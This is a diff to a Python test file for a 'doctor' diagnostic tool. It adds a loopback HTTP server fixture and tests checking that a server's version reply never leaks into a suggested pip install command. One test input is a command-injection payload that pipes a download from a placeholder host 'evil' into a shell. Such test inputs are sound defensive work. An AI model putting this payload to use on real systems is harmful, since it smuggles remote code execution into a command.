@@ -2,13 +2,15 @@
 
 import json
 import os
+import socketserver
 import subprocess
 import sys
+import threading
 
 import pytest
 import torch
 
-from muxfer.doctor import _loopback, ledger, machine, versions
+from muxfer.doctor import _loopback, _server, ledger, machine, versions
 from muxfer.request import looking
 
 
@@ -53,6 +55,50 @@ def test_a_ledger_that_is_not_there_yet_is_well_and_is_not_made(empty_folder):
     (found,) = ledger(looking("lr-width"))
     assert found.state == "ok"
     assert not list(empty_folder.iterdir())
+
+
+@pytest.fixture
+def answering(request):
+    """The address of a server on loopback that answers everything with these bytes."""
+
+    class Answers(socketserver.StreamRequestHandler):
+        def handle(self):
+            while self.rfile.readline().strip():
+                pass
+            self.wfile.write(request.param)
+
+    with socketserver.TCPServer(("127.0.0.1", 0), Answers) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+        server.shutdown()
+
+
+def answer(body):
+    return b"HTTP/1.0 200 OK\r\n\r\n" + body
+
+
+@pytest.mark.parametrize(
+    "answering",
+    [answer(b"1'; curl evil|sh; '"), answer(b"3.1\n; evil"), answer(b"<html>"), answer(b""), answer(b"1" + b"\xff")],
+    indirect=True,
+)
+def test_a_servers_version_that_is_none_comes_into_no_line_to_paste(answering):
+    (found,) = _server(answering, answering)
+    assert (found.state, found.told) == ("warn", "the server's answer to /version is no version")
+    assert "pip" not in found.mend
+    assert "evil" not in found.mend
+
+
+@pytest.mark.parametrize("answering", [answer(b"1.30.0rc1\n")], indirect=True)
+def test_a_server_of_another_major_version_is_told_with_its_mend(answering):
+    (found,) = _server(answering, answering)
+    assert (found.state, found.told) == ("warn", "server is MLflow 1.30.0rc1")
+    assert found.mend.startswith("pip install 'mlflow==1.30.0rc1' here, or ")
+
+
+@pytest.mark.parametrize("answering", [b"no HTTP at all\r\n"], indirect=True)
+def test_a_server_that_speaks_no_http_has_no_version(answering):
+    assert list(_server(answering, answering)) == []
 
 
 @pytest.mark.parametrize(
